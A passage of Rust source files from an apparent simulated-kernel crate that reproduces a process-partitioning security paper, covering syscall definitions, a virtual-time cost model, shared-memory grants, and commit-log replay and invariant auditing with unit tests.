    /// the *syscall itself* must still pass any already-installed filter).
    Seccomp,

    // ---- devices ----
    /// Device control; filterable by fd (cameras vs. arbitrary devices).
    Ioctl {
        fd: Fd,
        request: u64,
    },
    Select {
        fds: Vec<Fd>,
    },
    Poll {
        fds: Vec<Fd>,
    },
    Eventfd2,

    // ---- sockets ----
    Socket,
    /// Connect a socket; filterable by fd-rule (GUI socket only).
    Connect {
        fd: Fd,
        dest: String,
    },
    Bind {
        fd: Fd,
        addr: String,
    },
    Listen {
        fd: Fd,
    },
    Accept {
        fd: Fd,
    },
    /// Send bytes on a connected socket — the exfiltration primitive.
    Send {
        fd: Fd,
        bytes: Vec<u8>,
    },
    Sendto {
        fd: Fd,
        dest: String,
        bytes: Vec<u8>,
    },
    Recvfrom {
        fd: Fd,
        len: u64,
    },

    // ---- sync / shm ----
    Futex {
        addr: Addr,
        wake: bool,
    },
    ShmOpen {
        name: String,
    },
    ShmUnlink {
        name: String,
    },

    // ---- misc ----
    Getrandom {
        len: u64,
    },
    Gettimeofday,
    ClockGettime,
}

impl Syscall {
    /// The filterable number of this syscall.
    pub fn number(&self) -> SyscallNo {
        match self {
            Syscall::Openat { .. } => SyscallNo::Openat,
            Syscall::Close { .. } => SyscallNo::Close,
            Syscall::Read { .. } => SyscallNo::Read,
            Syscall::Write { .. } => SyscallNo::Write,
            Syscall::Lseek { .. } => SyscallNo::Lseek,
            Syscall::Fstat { .. } => SyscallNo::Fstat,
            Syscall::Lstat { .. } => SyscallNo::Lstat,
            Syscall::Stat { .. } => SyscallNo::Stat,
            Syscall::Getdents { .. } => SyscallNo::Getdents,
            Syscall::Mkdir { .. } => SyscallNo::Mkdir,
            Syscall::Unlink { .. } => SyscallNo::Unlink,
            Syscall::Rename { .. } => SyscallNo::Rename,
            Syscall::Access { .. } => SyscallNo::Access,
            Syscall::Umask { .. } => SyscallNo::Umask,
            Syscall::Dup { .. } => SyscallNo::Dup,
            Syscall::Fcntl { .. } => SyscallNo::Fcntl,
            Syscall::Brk { .. } => SyscallNo::Brk,
            Syscall::Mmap { .. } => SyscallNo::Mmap,
            Syscall::Munmap { .. } => SyscallNo::Munmap,
            Syscall::Mprotect { .. } => SyscallNo::Mprotect,
            Syscall::Fork => SyscallNo::Fork,
            Syscall::Execve { .. } => SyscallNo::Execve,
            Syscall::Exit { .. } => SyscallNo::Exit,
            Syscall::Kill { .. } => SyscallNo::Kill,
            Syscall::Getpid => SyscallNo::Getpid,
            Syscall::Getuid => SyscallNo::Getuid,
            Syscall::Getcwd => SyscallNo::Getcwd,
            Syscall::Uname => SyscallNo::Uname,
            Syscall::SchedYield => SyscallNo::SchedYield,
            Syscall::Nanosleep { .. } => SyscallNo::Nanosleep,
            Syscall::PrctlNoNewPrivs => SyscallNo::Prctl,
            Syscall::Seccomp => SyscallNo::Seccomp,
            Syscall::Ioctl { .. } => SyscallNo::Ioctl,
            Syscall::Select { .. } => SyscallNo::Select,
            Syscall::Poll { .. } => SyscallNo::Poll,
            Syscall::Eventfd2 => SyscallNo::Eventfd2,
            Syscall::Socket => SyscallNo::Socket,
            Syscall::Connect { .. } => SyscallNo::Connect,
            Syscall::Bind { .. } => SyscallNo::Bind,
            Syscall::Listen { .. } => SyscallNo::Listen,
            Syscall::Accept { .. } => SyscallNo::Accept,
            Syscall::Send { .. } => SyscallNo::Send,
            Syscall::Sendto { .. } => SyscallNo::Sendto,
            Syscall::Recvfrom { .. } => SyscallNo::Recvfrom,
            Syscall::Futex { .. } => SyscallNo::Futex,
            Syscall::ShmOpen { .. } => SyscallNo::ShmOpen,
            Syscall::ShmUnlink { .. } => SyscallNo::ShmUnlink,
            Syscall::Getrandom { .. } => SyscallNo::Getrandom,
            Syscall::Gettimeofday => SyscallNo::Gettimeofday,
            Syscall::ClockGettime => SyscallNo::ClockGettime,
        }
    }

    /// The fd argument this syscall operates on, if any — the hook
    /// FreePart's fd-argument filter rules attach to (`ioctl`, `connect`,
    /// `select`, `fcntl`, `send`, ...).
    pub fn fd_arg(&self) -> Option<Fd> {
        match self {
            Syscall::Close { fd }
            | Syscall::Read { fd, .. }
            | Syscall::Write { fd, .. }
            | Syscall::Lseek { fd, .. }
            | Syscall::Fstat { fd }
            | Syscall::Dup { fd }
            | Syscall::Fcntl { fd }
            | Syscall::Ioctl { fd, .. }
            | Syscall::Connect { fd, .. }
            | Syscall::Bind { fd, .. }
            | Syscall::Listen { fd }
            | Syscall::Accept { fd }
            | Syscall::Send { fd, .. }
            | Syscall::Sendto { fd, .. }
            | Syscall::Recvfrom { fd, .. } => Some(*fd),
            Syscall::Select { fds } | Syscall::Poll { fds } => fds.first().copied(),
            _ => None,
        }
    }
}

/// Successful syscall results.
#[derive(Debug, Clone, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum SyscallRet {
    /// Nothing to report.
    Ok,
    /// A new file descriptor (openat, socket, dup, eventfd2, accept, shm_open).
    NewFd(Fd),
    /// Bytes out of the kernel (read, recvfrom, getrandom, getcwd, uname).
    Bytes(Vec<u8>),
    /// A numeric result (write count, lseek position, fstat size, pid/uid,
    /// mprotect page count, time).
    Num(u64),
    /// A fresh memory mapping.
    Mapped(Addr),
}

impl SyscallRet {
    /// Unwraps a [`SyscallRet::NewFd`].
    ///
    /// # Panics
    ///
    /// Panics if the variant is anything else; used by callers that just
    /// issued an fd-producing syscall.
    pub fn fd(self) -> Fd {
        match self {
            SyscallRet::NewFd(fd) => fd,
            other => panic!("expected NewFd, got {other:?}"),
        }
    }

    /// Unwraps [`SyscallRet::Bytes`].
    ///
    /// # Panics
    ///
    /// Panics on any other variant.
    pub fn bytes(self) -> Vec<u8> {
        match self {
            SyscallRet::Bytes(b) => b,
            other => panic!("expected Bytes, got {other:?}"),
        }
    }

    /// Unwraps [`SyscallRet::Num`].
    ///
    /// # Panics
    ///
    /// Panics on any other variant.
    pub fn num(self) -> u64 {
        match self {
            SyscallRet::Num(n) => n,
            other => panic!("expected Num, got {other:?}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_linux_style() {
        assert_eq!(SyscallNo::Openat.name(), "openat");
        assert_eq!(SyscallNo::Mprotect.name(), "mprotect");
        assert_eq!(SyscallNo::ShmOpen.name(), "shm_open");
        assert_eq!(SyscallNo::SchedYield.name(), "sched_yield");
    }

    #[test]
    fn all_lists_every_variant_once() {
        use std::collections::HashSet;
        let set: HashSet<_> = SyscallNo::ALL.iter().collect();
        assert_eq!(set.len(), SyscallNo::ALL.len());
        assert!(SyscallNo::ALL.len() >= 45, "surface should be broad");
    }

    #[test]
    fn number_matches_variant() {
        assert_eq!(
            Syscall::Openat {
                path: "/x".into(),
                create: false
            }
            .number(),
            SyscallNo::Openat
        );
        assert_eq!(Syscall::PrctlNoNewPrivs.number(), SyscallNo::Prctl);
    }

    #[test]
    fn fd_arg_extraction() {
        assert_eq!(
            Syscall::Ioctl {
                fd: Fd(7),
                request: 1
            }
            .fd_arg(),
            Some(Fd(7))
        );
        assert_eq!(Syscall::Getpid.fd_arg(), None);
        assert_eq!(
            Syscall::Select {
                fds: vec![Fd(3), Fd(4)]
            }
            .fd_arg(),
            Some(Fd(3))
        );
    }

    #[test]
    fn ret_unwrappers() {
        assert_eq!(SyscallRet::NewFd(Fd(1)).fd(), Fd(1));
        assert_eq!(SyscallRet::Bytes(vec![1]).bytes(), vec![1]);
        assert_eq!(SyscallRet::Num(9).num(), 9);
    }
}
