//! Virtual-time cost model.
//!
//! The paper's performance results (Fig. 13, Table 9, Fig. 4) are
//! dominated by a handful of mechanisms: context switches on RPC, bytes
//! copied across processes, syscall entry overhead, `mprotect` flushes,
//! and process spawns. We charge each to a virtual nanosecond clock with
//! constants calibrated to commodity x86-64 latencies, so relative
//! overheads (the thing the reproduction must match) are deterministic
//! and machine-independent.

/// Tunable per-operation virtual costs, in nanoseconds.
///
/// The defaults approximate an i7-class desktop: ~300 ns syscall entry,
/// ~1.5 µs context switch, ~0.06 ns/byte memcpy bandwidth (~16 GB/s),
/// ~200 µs fork+exec, ~180 ns per-page TLB shootdown on `mprotect`.
#[derive(Debug, Clone, PartialEq)]
pub struct CostModel {
    /// Fixed cost of any syscall (entry/exit, filter evaluation).
    pub syscall_ns: u64,
    /// Fixed cost of one IPC message (futex wake + context switch both ways).
    pub ipc_round_trip_ns: u64,
    /// Cost per byte copied between address spaces (IPC payload, deep copy).
    pub copy_ns_per_kib: u64,
    /// Cost of spawning a process (fork + exec + runtime init).
    pub spawn_ns: u64,
    /// Per-page cost of a protection change (PTE update + TLB shootdown).
    pub mprotect_ns_per_page: u64,
    /// Cost per unit of algorithmic work reported by framework APIs
    /// (one "work unit" ≈ one inner-loop pixel/element operation batch).
    pub compute_ns_per_unit: u64,
    /// Cost of reading/writing one KiB of file data (page-cache hit).
    pub file_ns_per_kib: u64,
    /// Per-page cost of mapping a shared-memory segment into an address
    /// space (PTE install; no data movement). This is what makes the
    /// map-vs-copy decision: a 4 KiB page costs `4 * copy_ns_per_kib`
    /// (~4.4 µs) to copy but only this much (~0.2 µs) to map.
    pub shm_map_ns_per_page: u64,
}

impl Default for CostModel {
    fn default() -> Self {
        // Calibrated so the evaluation workloads (tens-of-KiB objects
        // standing in for the paper's megabyte images) reproduce the
        // paper's *relative* overheads: per-call compute dominates, an
        // IPC round trip is a few percent of a call, and one object
        // copy costs about twice an IPC.
        CostModel {
            syscall_ns: 300,
            ipc_round_trip_ns: 5_500,
            copy_ns_per_kib: 1_100,
            spawn_ns: 200_000,
            mprotect_ns_per_page: 180,
            compute_ns_per_unit: 60,
            file_ns_per_kib: 120,
            shm_map_ns_per_page: 200,
        }
    }
}

impl CostModel {
    /// Cost of copying `bytes` across address spaces.
    pub fn copy_cost(&self, bytes: u64) -> u64 {
        // Round up to whole KiB so tiny messages still pay something.
        bytes.div_ceil(1024) * self.copy_ns_per_kib
    }

    /// Cost of file I/O over `bytes`.
    pub fn file_cost(&self, bytes: u64) -> u64 {
        bytes.div_ceil(1024) * self.file_ns_per_kib
    }

    /// Cost of an `mprotect` covering `pages` pages.
    pub fn mprotect_cost(&self, pages: u64) -> u64 {
        pages * self.mprotect_ns_per_page
    }

    /// Cost of `units` of framework compute.
    pub fn compute_cost(&self, units: u64) -> u64 {
        units * self.compute_ns_per_unit
    }

    /// Cost of page-mapping a `bytes`-long shared-memory segment.
    pub fn shm_map_cost(&self, bytes: u64) -> u64 {
        bytes.div_ceil(crate::mem::PAGE_SIZE) * self.shm_map_ns_per_page
    }

    /// One-way IPC latency: half the round trip, charged once on send
    /// and once on delivery so a full request/response pair sums to
    /// [`CostModel::ipc_round_trip_ns`].
    pub fn ipc_latency_ns(&self) -> u64 {
        self.ipc_round_trip_ns / 2
    }
}

/// Monotone virtual clock in nanoseconds.
///
/// # Example
///
/// ```
/// use freepart_simos::VirtualClock;
///
/// let mut clk = VirtualClock::new();
/// clk.charge(1_500);
/// assert_eq!(clk.now_ns(), 1_500);
/// assert_eq!(clk.now_ms(), 0.0015);
/// ```
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct VirtualClock {
    ns: u64,
}

impl VirtualClock {
    /// A clock at time zero.
    pub fn new() -> VirtualClock {
        VirtualClock::default()
    }

    /// Advances the clock by `ns` nanoseconds.
    pub fn charge(&mut self, ns: u64) {
        self.ns += ns;
    }

    /// Current virtual time in nanoseconds.
    pub fn now_ns(&self) -> u64 {
        self.ns
    }

    /// Current virtual time in milliseconds.
    pub fn now_ms(&self) -> f64 {
        self.ns as f64 / 1e6
    }

    /// Current virtual time in seconds.
    pub fn now_secs(&self) -> f64 {
        self.ns as f64 / 1e9
    }

    /// Resets to zero (between experiment runs).
    pub fn reset(&mut self) {
        self.ns = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn copy_cost_rounds_up_to_kib() {
        let m = CostModel::default();
        assert_eq!(m.copy_cost(0), 0);
        assert_eq!(m.copy_cost(1), m.copy_ns_per_kib);
        assert_eq!(m.copy_cost(1024), m.copy_ns_per_kib);
        assert_eq!(m.copy_cost(1025), 2 * m.copy_ns_per_kib);
    }

    #[test]
    fn clock_accumulates_and_resets() {
        let mut c = VirtualClock::new();
        c.charge(10);
        c.charge(5);
        assert_eq!(c.now_ns(), 15);
        c.reset();
        assert_eq!(c.now_ns(), 0);
    }

    #[test]
    fn unit_conversions() {
        let mut c = VirtualClock::new();
        c.charge(2_000_000_000);
        assert_eq!(c.now_secs(), 2.0);
        assert_eq!(c.now_ms(), 2_000.0);
    }

    #[test]
    fn default_costs_are_ordered_sensibly() {
        let m = CostModel::default();
        // A spawn is far more expensive than an IPC which beats a syscall.
        assert!(m.spawn_ns > m.ipc_round_trip_ns);
        assert!(m.ipc_round_trip_ns > m.syscall_ns);
    }

    #[test]
    fn mapping_a_page_is_far_cheaper_than_copying_it() {
        let m = CostModel::default();
        // The map-vs-copy gap is the entire point of the Shm transport.
        assert!(m.shm_map_cost(4096) * 10 < m.copy_cost(4096));
        // Rounds up to whole pages like copy rounds to KiB.
        assert_eq!(m.shm_map_cost(1), m.shm_map_ns_per_page);
        assert_eq!(m.shm_map_cost(4097), 2 * m.shm_map_ns_per_page);
    }
}
