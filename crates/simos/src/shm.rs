//! Kernel-owned shared-memory segments with per-process grants.
//!
//! The FreePart data plane moves object payloads between the host and
//! agent processes. Copying every payload through IPC dominates the
//! partitioned hot path (the SGX case-study result this reproduction
//! chases), so the runtime's `Shm` transport instead *promotes* a large
//! payload into one of these segments and hands each consumer a
//! page-mapped view. A segment lives in the kernel, not in any process's
//! address space, so it survives agent crashes and restarts; what a
//! process holds is a **grant** — a `(Pid, Perms)` entry checked on every
//! access exactly like page permissions are checked by
//! [`AddressSpace`](crate::mem::AddressSpace).
//!
//! Grants are the temporal-permission story extended to shared memory:
//! the runtime downgrades or revokes them wholesale when the framework
//! state machine transitions, so an out-of-state agent that kept a stale
//! pointer into a segment faults exactly as it would on an `mprotect`ed
//! page. Revocation is a permission-table edit plus TLB shootdown — it
//! never touches the payload bytes.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

use crate::commit::{fold_bytes, mix, FINGERPRINT_SEED};
use crate::mem::Perms;
use crate::process::Pid;

/// Identifier of a kernel-owned shared-memory segment.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ShmId(pub u64);

impl fmt::Display for ShmId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "shm{}", self.0)
    }
}

/// One segment: payload bytes plus the grant and mapping tables.
///
/// Constructed only through [`Kernel::shm_create`]; inspected through
/// [`KernelState::shm_segment`].
///
/// [`Kernel::shm_create`]: crate::kernel::Kernel::shm_create
/// [`KernelState::shm_segment`]: crate::KernelState::shm_segment
#[derive(Debug, Clone)]
pub struct ShmSegment {
    pub(crate) data: Vec<u8>,
    pub(crate) grants: BTreeMap<Pid, Perms>,
    pub(crate) mapped: BTreeSet<Pid>,
    pub(crate) writes: u64,
    /// Incremental fingerprint over the payload's mutation history
    /// (creation bytes plus every replacement), so the kernel state
    /// digest never has to re-hash a large payload.
    fp: u64,
}

impl ShmSegment {
    pub(crate) fn new(data: Vec<u8>) -> ShmSegment {
        let fp = fold_bytes(FINGERPRINT_SEED, &data);
        ShmSegment {
            data,
            grants: BTreeMap::new(),
            mapped: BTreeSet::new(),
            writes: 0,
            fp,
        }
    }

    /// Replaces the payload, folding the new bytes into the fingerprint
    /// (the only mutation path the kernel uses for `shm_write`).
    pub(crate) fn replace_data(&mut self, bytes: &[u8]) {
        self.data = bytes.to_vec();
        self.writes += 1;
        self.fp = fold_bytes(mix(self.fp, 1), bytes);
    }

    /// The payload-mutation fingerprint (see the field docs on `fp`).
    pub fn fingerprint(&self) -> u64 {
        self.fp
    }

    /// Payload length in bytes.
    pub fn len(&self) -> u64 {
        self.data.len() as u64
    }

    /// True when the payload is empty.
    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// The permissions `pid` currently holds on this segment, if any.
    pub fn grant_of(&self, pid: Pid) -> Option<Perms> {
        self.grants.get(&pid).copied()
    }

    /// All current grants, in pid order.
    pub fn grants(&self) -> impl Iterator<Item = (Pid, Perms)> + '_ {
        self.grants.iter().map(|(p, perms)| (*p, *perms))
    }

    /// True when `pid` has page-mapped the segment.
    pub fn is_mapped(&self, pid: Pid) -> bool {
        self.mapped.contains(&pid)
    }

    /// Write generation of the payload: bumped by the kernel on every
    /// `shm_write`. An unchanged generation across an interval proves the
    /// payload bytes did not change — the shared-memory counterpart of
    /// [`AddressSpace::write_epoch`](crate::mem::AddressSpace::write_epoch),
    /// and what lets incremental snapshots skip shm-promoted objects.
    pub fn write_epoch(&self) -> u64 {
        self.writes
    }

    /// Drops every grant and mapping `pid` holds on this segment. Used
    /// when reaping a dead process: the segment (kernel-owned) survives,
    /// but the corpse's permission entries must not.
    pub(crate) fn purge(&mut self, pid: Pid) {
        self.grants.remove(&pid);
        self.mapped.remove(&pid);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_names_the_segment() {
        assert_eq!(ShmId(7).to_string(), "shm7");
    }

    #[test]
    fn fresh_segment_has_no_grants() {
        let s = ShmSegment::new(vec![1, 2, 3]);
        assert_eq!(s.len(), 3);
        assert!(!s.is_empty());
        assert_eq!(s.grant_of(Pid(1)), None);
        assert!(!s.is_mapped(Pid(1)));
        assert_eq!(s.grants().count(), 0);
    }
}
