//! Deterministic replay of a [`CommitLog`] and replay-time invariant
//! auditing.
//!
//! [`replay`] rebuilds a kernel from nothing but a log: a fresh
//! [`KernelState`] is constructed from the log's genesis
//! [`CostModel`](crate::CostModel),
//! and the log is **folded through the same pure
//! [`step`](crate::core::step) function live execution uses** — replay
//! has no interpretation logic of its own, so it cannot drift from the
//! kernel. After each step both the outcome summary and the
//! [state digest](KernelState::digest) are compared against what the
//! recorder wrote. Any mismatch is a [`Divergence`] — either the replayed
//! operation returned something different ([`DivergenceKind::Outcome`])
//! or the kernel ended up in a different state
//! ([`DivergenceKind::Digest`]).
//!
//! [`audit`] checks whole-trace properties no single step can see:
//! filter immutability after sealing, grant/revoke balance per
//! `(segment, pid)`, and page-protection accounting. These run over the
//! log alone (plus a shadow replay for the accounting rule), so a forged
//! or corrupted log is flagged even when each individual record looks
//! plausible.
//!
//! [`forensic_chain`] walks the log *backward* from any record — a
//! delivered fault, a filter kill — collecting the provenance chain of
//! every process, segment, and channel transitively involved. This is
//! the kernel-level half of the forensic reporter; the `freepart-core`
//! forensics layer joins these chains with runtime audit records.

use std::collections::BTreeSet;

use crate::commit::{CommitLog, CommitOp, CommitOutcome};
use crate::core::effects::Effects;
use crate::core::state::KernelState;
use crate::core::step::{outcome_of_step, step};
use crate::ipc::ChannelId;
use crate::kernel::Kernel;
use crate::process::Pid;
use crate::shm::ShmId;
use crate::syscall::Syscall;

/// How a replayed step differed from the recorded one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DivergenceKind {
    /// The re-applied operation produced a different outcome summary.
    Outcome,
    /// The kernel state digest after the step did not match.
    Digest,
}

/// One replay mismatch.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Divergence {
    /// Log index of the mismatching record.
    pub index: u64,
    /// Stable operation name ([`CommitOp::name`]).
    pub op: String,
    /// What differed.
    pub kind: DivergenceKind,
    /// The recorded value (outcome raw word or digest).
    pub expected: u64,
    /// The replayed value.
    pub got: u64,
}

/// Result of a full replay pass.
#[derive(Debug, Clone, Default)]
pub struct ReplayReport {
    /// Records re-applied.
    pub steps: u64,
    /// Every mismatch found, in log order.
    pub divergences: Vec<Divergence>,
}

impl ReplayReport {
    /// True when every step reproduced outcome and digest exactly.
    pub fn is_clean(&self) -> bool {
        self.divergences.is_empty()
    }
}

/// Re-applies one logged operation to `k` through the recorded path
/// ([`Kernel::apply`], i.e. the pure `step`), returning the outcome
/// summary via the shared [`outcome_of_step`] path so recorder and
/// replayer cannot drift. Kept as the op-at-a-time surface for
/// forensics-style consumers that interleave re-execution with their
/// own bookkeeping.
pub fn apply_op(k: &mut Kernel, op: &CommitOp) -> CommitOutcome {
    outcome_of_step(&k.apply(op.clone()))
}

/// Replays `log` by folding the pure [`step`](crate::core::step) over a
/// fresh [`KernelState`], asserting digest-identical state at every
/// record. Returns the rebuilt kernel (useful for re-deriving
/// end-of-run verdicts) and the divergence report.
pub fn replay(log: &CommitLog) -> (Kernel, ReplayReport) {
    let mut state = KernelState::with_cost_model(log.genesis().clone());
    let mut fx = Effects::new();
    let mut report = ReplayReport::default();
    for rec in log.records() {
        fx.clear();
        let got = outcome_of_step(&step(&mut state, rec.op.clone(), &mut fx));
        report.steps += 1;
        if got != rec.outcome {
            report.divergences.push(Divergence {
                index: rec.index,
                op: rec.op.name().to_owned(),
                kind: DivergenceKind::Outcome,
                expected: rec.outcome.raw(),
                got: got.raw(),
            });
        }
        let digest = state.digest();
        if digest != rec.digest {
            report.divergences.push(Divergence {
                index: rec.index,
                op: rec.op.name().to_owned(),
                kind: DivergenceKind::Digest,
                expected: rec.digest,
                got: digest,
            });
        }
    }
    (Kernel::from_state(state), report)
}

/// One whole-trace invariant violation found by [`audit`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InvariantViolation {
    /// Log index where the violation became observable (`log.len()` for
    /// end-of-trace accounting mismatches).
    pub index: u64,
    /// Stable rule name: `filter-immutability`, `grant-balance`,
    /// `grant-to-dead`, `page-accounting`.
    pub rule: &'static str,
    /// Human-readable description.
    pub detail: String,
}

/// Audits whole-trace invariants over `log`:
///
/// * **filter-immutability** — once a pid is sealed (a successful
///   [`CommitOp::SetNoNewPrivs`] or a `PrctlNoNewPrivs` syscall), no
///   later [`CommitOp::InstallFilter`] on it may succeed, until the pid
///   is reaped.
/// * **grant-balance** — every successful revoke tears down a grant the
///   log actually issued, and a revoke reporting "no grant existed" must
///   not contradict the modeled grant table.
/// * **grant-to-dead** — a successful grant must not target a pid the
///   log already recorded as dead (fault, force-exit, or `Exit`).
/// * **page-accounting** — the sum of page deltas reported by successful
///   `protect` / `shm_protect_all` records plus `Mprotect` syscalls
///   (measured on a shadow replay) equals the shadow kernel's
///   `protected_pages` counter, resetting at
///   [`CommitOp::ResetAccounting`].
///
/// Honest recorded logs audit clean; the rules exist to flag forged or
/// corrupted logs and to prove the kernel itself keeps these promises
/// (see the property tests in `tests/replay_props.rs`).
pub fn audit(log: &CommitLog) -> Vec<InvariantViolation> {
    use CommitOp as O;
    let mut violations = Vec::new();
    let mut sealed: BTreeSet<Pid> = BTreeSet::new();
    let mut dead: BTreeSet<Pid> = BTreeSet::new();
    let mut grants: BTreeSet<(u64, u32)> = BTreeSet::new();
    let mut shadow = KernelState::with_cost_model(log.genesis().clone());
    let mut fx = Effects::new();
    let mut expected_pages: u64 = 0;

    for rec in log.records() {
        let ok = rec.outcome.is_ok();
        let pages_before = shadow.metrics().protected_pages;
        fx.clear();
        let _ = step(&mut shadow, rec.op.clone(), &mut fx);
        let pages_after = shadow.metrics().protected_pages;
        match &rec.op {
            O::SetNoNewPrivs { pid } if ok => {
                sealed.insert(*pid);
            }
            O::Syscall {
                pid,
                call: Syscall::PrctlNoNewPrivs,
            } if ok => {
                sealed.insert(*pid);
            }
            O::Syscall {
                pid,
                call: Syscall::Exit { .. },
            } if ok => {
                dead.insert(*pid);
            }
            O::Syscall { .. } => {
                expected_pages += pages_after - pages_before;
            }
            O::InstallFilter { pid, .. } if ok && sealed.contains(pid) => {
                violations.push(InvariantViolation {
                    index: rec.index,
                    rule: "filter-immutability",
                    detail: format!("filter replaced on sealed {pid}"),
                });
            }
            O::DeliverFault { pid, .. } => {
                dead.insert(*pid);
            }
            O::ForceExit { pid, .. } if ok && rec.outcome.raw() == 1 => {
                dead.insert(*pid);
            }
            O::Reap { pid } if ok => {
                sealed.remove(pid);
                grants.retain(|&(_, g)| g != pid.0);
            }
            O::ShmCreate { owner, .. } if ok => {
                grants.insert((rec.outcome.raw(), owner.0));
            }
            O::ShmGrant { id, pid, .. } if ok => {
                if dead.contains(pid) {
                    violations.push(InvariantViolation {
                        index: rec.index,
                        rule: "grant-to-dead",
                        detail: format!("grant on {id} issued to dead {pid}"),
                    });
                }
                grants.insert((id.0, pid.0));
            }
            O::ShmRevoke { id, pid } if ok => {
                let modeled = grants.remove(&(id.0, pid.0));
                let claimed = rec.outcome.raw() == 1;
                if claimed != modeled {
                    violations.push(InvariantViolation {
                        index: rec.index,
                        rule: "grant-balance",
                        detail: format!(
                            "revoke of ({id}, {pid}) reported existed={claimed} \
                             but the log issued {}",
                            if modeled { "a grant" } else { "no grant" }
                        ),
                    });
                }
            }
            O::ShmDestroy { id } => {
                grants.retain(|&(s, _)| s != id.0);
            }
            O::Protect { .. } | O::ShmProtectAll { .. } if ok => {
                expected_pages += rec.outcome.raw();
            }
            O::ResetAccounting => {
                expected_pages = 0;
            }
            _ => {}
        }
    }

    let counted = shadow.metrics().protected_pages;
    if expected_pages != counted {
        violations.push(InvariantViolation {
            index: log.len(),
            rule: "page-accounting",
            detail: format!(
                "log-audited page transitions ({expected_pages}) != kernel \
                 protected_pages counter ({counted})"
            ),
        });
    }
    violations
}

/// An object a forensic walk can taint: a process, a segment, a channel.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Entity {
    Proc(Pid),
    Seg(ShmId),
    Chan(ChannelId),
}

/// Every entity a record touches, including ids minted in its outcome
/// (a spawn's pid, a created segment or channel id).
fn entities_of(op: &CommitOp, outcome: CommitOutcome) -> Vec<Entity> {
    use CommitOp as O;
    let mut out = Vec::new();
    if let Some(pid) = op.acting_pid() {
        out.push(Entity::Proc(pid));
    }
    match op {
        O::Spawn { .. } => {
            if let CommitOutcome::Ok(raw) = outcome {
                out.push(Entity::Proc(Pid(raw as u32)));
            }
        }
        O::ShmCreate { .. } => {
            if let CommitOutcome::Ok(raw) = outcome {
                out.push(Entity::Seg(ShmId(raw)));
            }
        }
        O::ShmGrant { id, .. }
        | O::ShmMap { id, .. }
        | O::ShmRevoke { id, .. }
        | O::ShmWrite { id, .. }
        | O::ShmProtectAll { id, .. }
        | O::ShmDestroy { id } => out.push(Entity::Seg(*id)),
        O::CreateChannel { a, b, .. } => {
            out.push(Entity::Proc(*a));
            out.push(Entity::Proc(*b));
            if let CommitOutcome::Ok(raw) = outcome {
                out.push(Entity::Chan(ChannelId(raw as u32)));
            }
        }
        O::IpcSend { chan, .. } | O::IpcRecv { chan, .. } => out.push(Entity::Chan(*chan)),
        O::RebindChannel { chan, new_b } => {
            out.push(Entity::Chan(*chan));
            out.push(Entity::Proc(*new_b));
        }
        O::SetTimeContext { pid: Some(pid) } => out.push(Entity::Proc(*pid)),
        _ => {}
    }
    out
}

/// Walks the log backward from record `from`, collecting the provenance
/// chain of every entity transitively connected to it: starting from the
/// processes/segments/channels the record touches, any earlier record
/// touching a tainted entity joins the chain and taints its own entities
/// (a grant links its segment to its grantee; an IPC send links its
/// channel to its sender; a channel creation links both endpoints).
///
/// Returns log indices, most recent first, beginning with `from` itself.
/// Empty if `from` is out of range.
pub fn forensic_chain(log: &CommitLog, from: u64) -> Vec<u64> {
    let records = log.records();
    let Some(start) = records.get(from as usize) else {
        return Vec::new();
    };
    let mut taint: BTreeSet<Entity> = entities_of(&start.op, start.outcome).into_iter().collect();
    let mut chain = vec![from];
    for rec in records[..from as usize].iter().rev() {
        let ents = entities_of(&rec.op, rec.outcome);
        if ents.iter().any(|e| taint.contains(e)) {
            chain.push(rec.index);
            taint.extend(ents);
        }
    }
    chain
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::commit::CommitRecord;
    use crate::error::FaultKind;
    use crate::filter::SyscallFilter;
    use crate::mem::Perms;
    use crate::syscall::SyscallNo;
    use crate::CostModel;

    fn recorded_run() -> CommitLog {
        let mut k = Kernel::new();
        k.enable_commit_log();
        let host = k.spawn("host");
        let agent = k.spawn("agent");
        let addr = k.alloc(host, 8192, Perms::RW).unwrap();
        k.mem_write(host, addr, b"payload").unwrap();
        k.protect(host, addr, 8192, Perms::R).unwrap();
        let ch = k.create_channel(host, agent, 1 << 16).unwrap();
        k.ipc_send(host, ch, b"req").unwrap();
        k.ipc_recv(agent, ch).unwrap();
        let id = k.shm_create(host, vec![7; 4096]).unwrap();
        k.shm_grant(id, agent, Perms::R).unwrap();
        k.shm_map(agent, id).unwrap();
        k.shm_revoke(id, agent).unwrap();
        k.install_filter(agent, SyscallFilter::allowing([SyscallNo::Getpid]))
            .unwrap();
        k.set_no_new_privs(agent).unwrap();
        let _ = k.syscall(agent, Syscall::Fork); // filter kill
        k.reap(agent).unwrap();
        k.take_commit_log().unwrap()
    }

    #[test]
    fn recorded_run_replays_clean() {
        let log = recorded_run();
        assert!(!log.is_empty());
        let (k, report) = replay(&log);
        assert!(report.is_clean(), "divergences: {:?}", report.divergences);
        assert_eq!(report.steps, log.len());
        // The rebuilt kernel matches the original's final digest.
        assert_eq!(k.state_digest(), log.records().last().unwrap().digest);
    }

    #[test]
    fn recorded_run_audits_clean() {
        let log = recorded_run();
        assert_eq!(audit(&log), Vec::new());
    }

    #[test]
    fn tampered_payload_is_flagged_as_divergence() {
        let log = recorded_run();
        let mut records = log.records().to_vec();
        let idx = records
            .iter()
            .position(|r| matches!(r.op, CommitOp::MemWrite { .. }))
            .unwrap();
        if let CommitOp::MemWrite { bytes, .. } = &mut records[idx].op {
            bytes[0] ^= 0xff;
        }
        let forged = CommitLog::from_parts(log.genesis().clone(), records);
        let (_, report) = replay(&forged);
        assert!(!report.is_clean());
        assert!(report
            .divergences
            .iter()
            .any(|d| d.kind == DivergenceKind::Digest && d.index == idx as u64));
    }

    #[test]
